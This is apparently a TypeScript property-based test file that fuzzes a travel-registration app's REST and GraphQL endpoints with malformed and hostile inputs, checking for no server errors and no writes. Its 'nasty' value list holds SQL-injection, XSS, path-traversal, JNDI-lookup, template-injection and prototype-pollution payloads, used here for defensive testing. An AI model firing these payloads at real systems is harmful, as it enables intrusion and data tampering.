// A generated sweep (fast-check) of every REST alias in /api/openapi.json and every GraphQL
// operation of the web, with malformed, oversized, wrong-typed and hostile values, anonymous and
// signed in: never a 5xx, every REST 4xx a JSON { message }, and nothing written.
import fc from 'fast-check';
import request from 'supertest';
import type { BuiltApp } from '../src/app.js';
import { agentOf, operationSource, resetDb, signedInAdmin, startApp, travellerAt, type Agent } from './helpers.js';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const LONG = 300_000;

const TABLES = ['users', 'trip_registrations', 'trip_forms', 'trip_documents', 'interest_submissions', 'audit_events'];
const RUNS = 12;
// ADR 0004: the spec's admin view reads this 401 { isAuthenticated: false } as "sign in".
const CHECK_AUTH = '/api/admin/check-auth';

let built: BuiltApp;
let identities: [string, Agent][];
let requests = 0;
beforeAll(async () => {
  built = await startApp({
    AUTH_RATE_LIMIT_PER_MINUTE: '1000000',
    INTEREST_RATE_LIMIT_PER_HOUR: '1000000',
    AUTH_ACCOUNT_FAILS_BEFORE_BACKOFF: '1000000',
  });
  await resetDb(built.db);
  const admin = (await signedInAdmin(built)).agent;
  // Registered without a deposit: every write of theirs is refused, so "nothing written" holds.
  const traveller = (await travellerAt(built, admin, 'PENDING')).agent;
  identities = [
    ['anonymous', agentOf(built)],
    ['traveller', traveller],
    ['admin', admin],
  ];
});
afterAll(async () => {
  console.log(`bad-input sweep: ${requests} requests sent`);
  await built.close();
});

/** A path parameter as a client could send it (a lone surrogate cannot be URL-encoded: replaced). */
const pathSegment = (text: string) => encodeURIComponent(text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'));

const counts = async () =>
  Object.fromEntries(await Promise.all(TABLES.map(async (t) => [t, Number((await built.db(t).count<{ count: string }[]>('* as count'))[0]!.count)])));

// ---- hostile values ----
const nasty = fc.constantFrom(
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '\ud800',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '0x7fffffff',
  '-1',
  'NaN',
  '9'.repeat(400),
  'a'.repeat(100_000),
  '2026-02-30',
  'true',
  '   ',
  '',
);
const text = fc.oneof(fc.string(), fc.string({ unit: 'binary', maxLength: 50 }), fc.string({ minLength: 1000, maxLength: 5000 }), nasty);
const { value } = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    text,
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.string({ maxLength: 10 }), tie('value'), { maxKeys: 4 }),
  ),
}));
const protoPollution = fc.constant(JSON.parse('{"__proto__": {"role": "admin", "isAdmin": true}, "constructor": {"prototype": {"x": 1}}}'));

/** A body for a schema: its own fields with hostile values, or something else entirely. */
function bodyFor(schema: { properties?: Record<string, unknown> } | undefined) {
  const keys = Object.keys(schema?.properties ?? {});
  const fields = keys.length ? [fc.record(Object.fromEntries(keys.map((k) => [k, value])), { requiredKeys: [] })] : [];
  return fc.oneof(...fields, ...fields, value, protoPollution);
}

const pathParam = fc.oneof(
  fc.uuid(),
  text.filter((s) => s.length > 0 && s.length < 500),
  fc.constant('00000000-0000-0000-0000-000000000000'),
);

interface OpenApiOperation {
  requestBody?: { content: Record<string, { schema: { properties?: Record<string, unknown> } }> };
  responses?: Record<string, { content?: object }>;
}

describe('the OpenAPI document', () => {
  it('when /api/openapi.json is asked, then it lists the REST aliases with bodies generated from the shared rules', async () => {
    const res = await request(built.app).get('/api/openapi.json');
    expect(res.status).toBe(200);
    expect(res.body.openapi).toBe('3.1.0');
    expect(Object.keys(res.body.paths).length).toBeGreaterThanOrEqual(20);
    const signUp = res.body.paths['/api/auth/register'].post.requestBody.content['application/json'].schema;
    expect(signUp.required).toEqual(['fullName', 'email', 'phone', 'username', 'password']);
    expect(signUp.properties.password).toMatchObject({ type: 'string', minLength: 6 });
    const interest = res.body.paths['/api/interest'].post.requestBody.content['application/json'].schema;
    expect(interest.properties.travelers).toMatchObject({ type: 'integer', minimum: 1, maximum: 45 });
    expect(res.body.paths['/api/trip/documents'].post.requestBody.content['multipart/form-data']).toBeDefined();
    expect(res.body.paths['/api/trip/payments/{id}/receipt.pdf'].get.responses[200].content['application/pdf']).toBeDefined();
  });

  it('when the document is compared with the routes the app mounts, then each lists the same calls', async () => {
    const doc = (await request(built.app).get('/api/openapi.json').expect(200)).body as { paths: Record<string, Record<string, unknown>> };
    const documented = Object.entries(doc.paths).flatMap(([p, methods]) => Object.keys(methods).map((m) => `${m.toUpperCase()} ${p}`));
    expect(mountedRoutes(built.app).sort()).toEqual(documented.sort());
  });
});

describe('generated bad input', () => {
  it(
    'when every REST alias gets hostile bodies, anonymous and signed in, then no 5xx, every 4xx is JSON { message }, nothing is written',
    async () => {
      const doc = (await request(built.app).get('/api/openapi.json').expect(200)).body as { paths: Record<string, Record<string, OpenApiOperation>> };
      const before = await counts();
      for (const [template, methods] of Object.entries(doc.paths)) {
        for (const [method, op] of Object.entries(methods)) {
          for (const [who, agent] of identities) {
            // Signing out would end the identity's session for the rest of the sweep.
            if (who !== 'anonymous' && template.endsWith('/logout')) continue;
            // A write with no body and no parameter has no input to make hostile (starting a registration is real),
            // nor has a file with no parameter (an export, which audits its reading).
            if (!op.requestBody && !template.includes('{') && (method !== 'get' || op.responses?.[200]?.content)) continue;
            // Every field optional, so any body is good input: a real write (a traveller's own cancellation).
            if (template === '/api/trip/cancel') continue;
            const json = op.requestBody?.content['application/json']?.schema;
            const multipart = Boolean(op.requestBody?.content['multipart/form-data']);
            await fc.assert(
              fc.asyncProperty(bodyFor(json), pathParam, fc.boolean(), async (body, param, raw) => {
                const url = template.replace(/\{\w+\}/g, pathSegment(String(param)));
                let req = (agent as unknown as Record<string, (u: string) => request.Test>)[method]!(url);
                if (multipart) req = req.field('metadata', JSON.stringify(body) ?? 'null').attach('file', Buffer.from(String(param)), 'x.bin');
                else if (method !== 'get')
                  req = req.set('content-type', 'application/json').send(raw ? String(JSON.stringify(body)).slice(0, -1) : JSON.stringify(body ?? null));
                const res = await req;
                requests += 1;
                if (res.status >= 500) throw new Error(`${who} ${method.toUpperCase()} ${url} → ${res.status} ${res.text.slice(0, 300)}`);
                if (
                  res.status >= 400 &&
                  template !== CHECK_AUTH &&
                  (!/application\/json/.test(res.headers['content-type'] ?? '') || typeof res.body.message !== 'string')
                ) {
                  throw new Error(`${who} ${method.toUpperCase()} ${url} → ${res.status} without a JSON message: ${res.text.slice(0, 200)}`);
                }
              }),
              { numRuns: RUNS, seed: 14 },
            );
          }
        }
      }
      expect(await counts()).toEqual(before);
    },
    LONG,
  );

  it(
    'when every GraphQL operation of the web gets hostile variables, anonymous and signed in, then no 5xx, no internal error, nothing is written',
    async () => {
      const opsDir = fileURLToPath(new URL('../../graphql/operations/', import.meta.url));
      const names = readdirSync(opsDir, { recursive: true })
        .filter((f) => String(f).endsWith('.graphql'))
        .flatMap((f) => [...readFileSync(path.join(opsDir, String(f)), 'utf8').matchAll(/^(?:query|mutation) (\w+)/gm)].map((m) => m[1]!));
      const before = await counts();
      for (const name of names) {
        const source = operationSource(name);
        const header = source.slice(0, source.indexOf('{'));
        const variables = [...header.matchAll(/\$(\w+)\s*:/g)].map((m) => m[1]!);
        for (const [who, agent] of identities) {
          if (who !== 'anonymous' && /LogOut$/.test(name)) continue;
          // Without variables there is no input to make hostile (StartRegistration is a real write).
          if (!variables.length && source.startsWith('mutation')) continue;
          // Every variable optional, so any input is good input: a real write (a traveller's own cancellation).
          if (name === 'CancelMyRegistration') continue;
          await fc.assert(
            fc.asyncProperty(
              fc.record(Object.fromEntries(variables.map((v) => [v, fc.oneof(value, bodyFor({ properties: { a: 1, b: 1, id: 1, input: 1 } }))])), {
                requiredKeys: [],
              }),
              async (vars) => {
                const res = await agent.post('/graphql').set('content-type', 'application/json').send({ query: source, variables: vars });
                requests += 1;
                if (res.status >= 500) throw new Error(`${who} ${name} → ${res.status} ${res.text.slice(0, 300)}`);
                for (const e of res.body.errors ?? []) {
                  expect(typeof e.message).toBe('string');
                  if (e.extensions?.code === 'INTERNAL_SERVER_ERROR')
                    throw new Error(`${who} ${name} → internal error for ${JSON.stringify(vars).slice(0, 300)}`);
                }
              },
            ),
            { numRuns: RUNS, seed: 14 },
          );
        }
      }
      expect(await counts()).toEqual(before);
    },
    LONG,
  );
});

/** Every REST call the app's routers answer (not the web's pages, GraphQL or the probes), as `METHOD /path/{param}`. */
function mountedRoutes(app: BuiltApp['app']): string[] {
  type Layer = { route?: { path: string | string[]; methods: Record<string, boolean> }; handle?: { stack?: Layer[] } };
  const walk = (stack: Layer[]): string[] =>
    stack.flatMap((layer) => {
      if (layer.handle?.stack) return walk(layer.handle.stack);
      if (!layer.route) return [];
      const { path: p, methods } = layer.route;
      return (Array.isArray(p) ? p : [p])
        .filter((one) => typeof one === 'string' && (one.startsWith('/api/') || one.startsWith('/uploads/')) && one !== '/api/openapi.json')
        .flatMap((one) =>
          Object.keys(methods)
            .filter((m) => m !== '_all')
            .map((m) => `${m.toUpperCase()} ${one.replace(/:(\w+)/g, '{$1}')}`),
        );
    });
  return [...new Set(walk((app as unknown as { router: { stack: Layer[] } }).router.stack))];
}
